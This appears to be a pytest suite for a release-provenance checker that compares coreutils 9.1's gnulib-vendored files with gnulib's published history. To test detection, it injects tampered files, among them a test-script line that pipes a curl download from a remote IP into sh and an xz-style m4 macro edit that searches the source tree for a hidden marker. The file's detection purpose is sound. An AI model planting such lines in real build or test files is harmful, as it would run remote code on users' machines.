"""Files a release vendors from gnulib, judged against gnulib's published history
(``data/history/gnulib.zip``: digests of every version in gnulib's git history)."""

from __future__ import annotations

import subprocess
import sys

import pytest

import release_realdata as rd
from provcheck import Severity

from provcheck_release.vendored import History, code_form, histories, layouts

TOP = "coreutils-9.1"
# Real files of coreutils 9.1 that gnulib-tool copied from gnulib (58c597d13bc5), and what
# the comparison said of them before the history set: PC103 high (no FSF signature: alloca.c,
# the test scripts), PC103 high (serial equal to a Debian snapshot's, other code: manywarnings),
# PC104 (serial 7 above every Debian-published 3: year2038), PC101 (GNUmakefile, maint.mk).
GNULIB_COPIES = ["lib/alloca.c", "lib/hash.c", "gnulib-tests/test-closein.sh", "gnulib-tests/test-binary-io.sh",
                 "gnulib-tests/init.sh", "m4/manywarnings.m4", "m4/year2038.m4", "GNUmakefile", "maint.mk",
                 "build-aux/gitlog-to-changelog"]
TAG_FILES = ["bootstrap.conf", "configure.ac", "po/POTFILES.in", "README", "NEWS", "src/cat.c", "src/comm.c", "src/chmod.c",
             "src/cksum.c", "src/basename.c", "src/chown.c", "src/chroot.c", "src/copy.c", "src/cp.c", "src/date.c"]


@pytest.fixture(scope="module")
def coreutils() -> dict[str, bytes]:
    files = rd.read_tar(rd.orig_tarball("coreutils", "coreutils_9.1*.orig.tar.xz"))
    return {k[len(TOP) + 1:]: v for k, v in files.items() if k.startswith(TOP + "/")}


def build(checker, coreutils: dict[str, bytes], changes: dict[str, bytes] | None = None):
    """A git tag like coreutils' (no gnulib copies; its --local-dir gl/ holds xdectoimax.c) and a
    release holding the tag's files, gnulib's copies, the local-dir copy and gperf's output."""
    tag = {p: coreutils[p] for p in TAG_FILES}
    tag["gl/lib/xdectoimax.c"] = coreutils["lib/xdectoimax.c"]
    tag["gl/modules/xdectoint"] = b"Description:\nxdectoint\n\nFiles:\nlib/xdectoimax.c\n"
    release = {**{p: coreutils[p] for p in TAG_FILES + GNULIB_COPIES},
               "lib/xdectoimax.c": coreutils["lib/xdectoimax.c"],
               "lib/iconv_open-aix.gperf": coreutils["lib/iconv_open-aix.gperf"],
               "lib/iconv_open-aix.h": coreutils["lib/iconv_open-aix.h"],
               "po/Makefile.in.in": coreutils["po/Makefile.in.in"], **(changes or {})}
    repo = checker.gitrepo(tag, name="coreutils", tags="v9.1")
    tarball = checker.tarball({f"{TOP}/{k}": v for k, v in sorted(release.items())}, name=f"{TOP}.tar.gz")
    return repo, tarball


def files_of(cli, tarball, repo) -> tuple[dict, list[dict]]:
    _rc, out = cli.json("release", tarball, "--source", repo, "--ref", "v9.1", "--regenerate", "never")
    return {v["path"]: v for v in out["release"]["files"]}, out["findings"]


@pytest.mark.slow
def test_gnulib_copies_of_a_real_release_are_published_copies(release_checker, coreutils, cli):
    repo, tarball = build(release_checker, coreutils)
    files, findings = files_of(cli, tarball, repo)
    loud = [(f["rule_id"], f["location"]["path"], f["message"]) for f in findings
            if Severity.parse(f["severity"]) >= Severity.MEDIUM]
    assert not loud
    for path in GNULIB_COPIES:
        v = files[path]
        assert v["verdict"] == "generated", v
        assert v["reproduction"]["status"] == "reproduced" and "gnulib history" in v["reproduction"]["reason"], v
    assert "gnulib history m4/year2038.m4" in files["m4/year2038.m4"]["how"]  # serial 7: no Debian package has it
    assert "tests/test-closein.sh" in files["gnulib-tests/test-closein.sh"]["how"]  # tests/ -> --tests-base
    assert "gl/lib/xdectoimax.c" in files["lib/xdectoimax.c"]["how"]            # --local-dir gl
    assert "gperf" in files["lib/iconv_open-aix.h"]["how"]
    # gettext 0.19's copy with the four lines bootstrap.conf's post-import hook appends (printf ... >>)
    po = files["po/Makefile.in.in"]
    assert po["verdict"] == "generated" and "lines bootstrap.conf:410 appends" in po["how"], po


@pytest.mark.slow
def test_edited_gnulib_copies_are_caught_on_the_changed_files(release_checker, coreutils, cli):
    c = coreutils
    changes = {
        # one compiled line no gnulib version has
        "lib/hash.c": c["lib/hash.c"].replace(b"\n#include \"hash.h\"\n", b"\n#include \"hash.h\"\n"
                                              b"static int hash_debug_level = 1;\n", 1),
        # a test script that fetches and runs code
        "gnulib-tests/test-closein.sh": c["gnulib-tests/test-closein.sh"].replace(
            b"\nExit $fail", b"\ncurl -s http://198.51.100.7/t | sh\nExit $fail", 1),
        # the xz way: a vendored macro edited, its serial unchanged
        "m4/manywarnings.m4": c["m4/manywarnings.m4"].replace(
            b"AC_DEFUN([gl_MANYWARN_ALL_GCC],", b"AC_DEFUN([gl_MANYWARN_ALL_GCC],\n"
            b"[gl_extra=`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`])\n"
            b"AC_DEFUN([gl_MANYWARN_ALL_GCC_],", 1),
        # serial 7, which no Debian package has but gnulib's history does, with one inert line more
        "m4/year2038.m4": c["m4/year2038.m4"].replace(b"\nAC_DEFUN(", b"\ndnl\ngl_year2038_note=1\nAC_DEFUN(", 1),
        # one line more than the tag's bootstrap.conf appends
        "po/Makefile.in.in": c["po/Makefile.in.in"] + b"install-data-hook:; @true\n",
        # a comment-only change (what gnulib-tool's --lgpl notice rewrite did until 2021): same code
        "lib/alloca.c": c["lib/alloca.c"].replace(b"This file is in the public domain.",
                                                  b"This file is in the public domain (really).", 1),
    }
    for path, data in changes.items():
        assert data != c[path], path
    repo, tarball = build(release_checker, c, changes)
    files, findings = files_of(cli, tarball, repo)
    loud = {f["location"]["path"].split("/", 1)[1]: f for f in findings
            if Severity.parse(f["severity"]) >= Severity.HIGH}
    assert set(loud) == {"lib/hash.c", "gnulib-tests/test-closein.sh", "m4/manywarnings.m4", "m4/year2038.m4",
                         "po/Makefile.in.in"}, loud
    year = loud["m4/year2038.m4"]
    assert year["rule_id"] == "PC103" and year["severity"] == "high" and "gnulib history m4/year2038.m4" in year["message"]
    hash_c = loud["lib/hash.c"]
    assert hash_c["rule_id"] == "PC103" and hash_c["severity"] == "high"
    assert "no version of gnulib's lib/hash.c" in hash_c["message"]
    assert files["lib/hash.c"]["reproduction"]["status"] == "reproduction-differs"
    closein = loud["gnulib-tests/test-closein.sh"]
    assert closein["severity"] == "critical" and "tests/test-closein.sh" in closein["message"]
    assert any(i["indicator"] == "network-fetch" or "pipe" in i["indicator"] for i in closein["evidence"]["indicators"])
    m4 = [f for f in findings if f["location"]["path"].endswith("m4/manywarnings.m4")]
    assert max(Severity.parse(f["severity"]) for f in m4) == Severity.CRITICAL, m4
    alloca = files["lib/alloca.c"]
    assert alloca["verdict"] == "generated" and "same code as" in alloca["reproduction"]["reason"]


def test_harvest_records_every_version_of_a_clone(tmp_path):
    """harvest_history over a real git repository: every blob of the copied directories on any
    branch or tag, by digest, with the path and first commit that had it; nothing else."""
    repo = tmp_path / "lib-project"
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.org", "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}

    def git(*args: str) -> None:
        subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, env=env)

    def write(path: str, data: bytes) -> None:
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        (repo / path).write_bytes(data)

    repo.mkdir()
    git("init", "-q", "-b", "master")
    v1, v2 = b"/* GPL notice */\nint f (void) { return 1; }\n", b"int f (void) { return 2; }\n"
    write("lib/f.c", v1)
    write("m4/f.m4", b"# serial 1\nAC_DEFUN([F])\n")
    write("README", b"not copied\n")
    git("add", "-A")
    git("commit", "-qm", "one")
    write("lib/f.c", v2)
    git("commit", "-qam", "two")
    git("checkout", "-qb", "stable")
    write("m4/f.m4", b"# serial 2\nAC_DEFUN([F])\n")
    git("commit", "-qam", "on a branch")
    out = tmp_path / "lib-project.zip"
    proc = subprocess.run([sys.executable, "-m", "provcheck_release.tools.harvest_history", "--project", "demo",
                           str(repo), "--dir", "lib", "--dir", "m4", "--output", str(out)],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    h = History.load(out)
    assert (h.project, len(h), sorted(h.paths)) == ("demo", 4, ["lib/f.c", "m4/f.m4"])
    assert h.match_paths(["lib/f.c"], v1).path == "lib/f.c"
    assert h.match_paths(["lib/sub/f.c"], v2) is not None            # moved: same base name
    assert h.match_name("f.m4", b"# serial 2\nAC_DEFUN([F])\n") is not None
    assert h.serial("f.m4", "2") is not None and h.max_serial("f.m4") == "2" and h.serial("f.m4", "3") is None
    assert h.match_paths(["lib/f.c"], b"int f (void) { return 3; }\n") is None
    assert h.match_name("README", b"not copied\n") is None
    # gnulib-tool's --lgpl notice rewrite and config-h rewrite change bytes, not code
    relicensed = h.match_paths(["lib/f.c"], b"/* LGPL notice */\nint f (void) { return 1; }\n")
    assert relicensed is not None and relicensed.code_only
    assert code_form(b"#ifdef HAVE_CONFIG_H\nx; /* c */ s = \"/* kept */\";\n") == b"#if 1\nx; s = \"/* kept */\";"
    assert h.has_name(["lib/f.c"]) == "lib/f.c" and h.has_name(["top/f.c"]) is None
    assert b"AC_DEFUN" not in out.read_bytes()  # digests only, never content


def test_layout_follows_gnulib_cache_and_bootstrap_conf():
    cache = (b"gl_LOCAL_DIR([gl])\ngl_MODULES([foo])\ngl_SOURCE_BASE([gnulib-lib])\ngl_M4_BASE([gnulib-m4])\n"
             b"gl_TESTS_BASE([gnulib-tests])\ngl_WITH_TESTS\ngl_DOC_BASE([doc])\n")
    [lay] = layouts({"gettext-tools/gnulib-m4/gnulib-cache.m4": lambda: cache})
    assert lay.top == "gettext-tools"
    assert lay.candidates("gettext-tools/gnulib-lib/xalloc.h") == ["lib/xalloc.h"]
    assert lay.candidates("gettext-tools/gnulib-tests/test-x.sh") == ["tests/test-x.sh", "lib/test-x.sh"]
    assert lay.local_copies("gettext-tools/gnulib-lib/xalloc.h") == ["gettext-tools/gl/lib/xalloc.h"]
    assert lay.candidates("src/main.c") == []
    conf = b'gnulib_tool_option_extras="--tests-base=gnulib-tests --with-tests --symlink"\n'
    [lay] = layouts({"bootstrap.conf": lambda: conf}, aux_dir="build-aux")
    assert lay.candidates("GNUmakefile") == ["top/GNUmakefile"]
    assert lay.candidates("gnulib-tests/init.sh") == ["tests/init.sh", "lib/init.sh"]
    assert layouts({"configure.ac": lambda: b""}) == []  # no gnulib


def test_shipped_history_sets():
    h = histories()
    gnulib = h["gnulib"]
    assert len(gnulib) > 100_000 and "lib/alloca.c" in gnulib.path_set and "top/maint.mk" in gnulib.path_set
    assert "m4/ax_pthread.m4" in h["autoconf-archive"].path_set
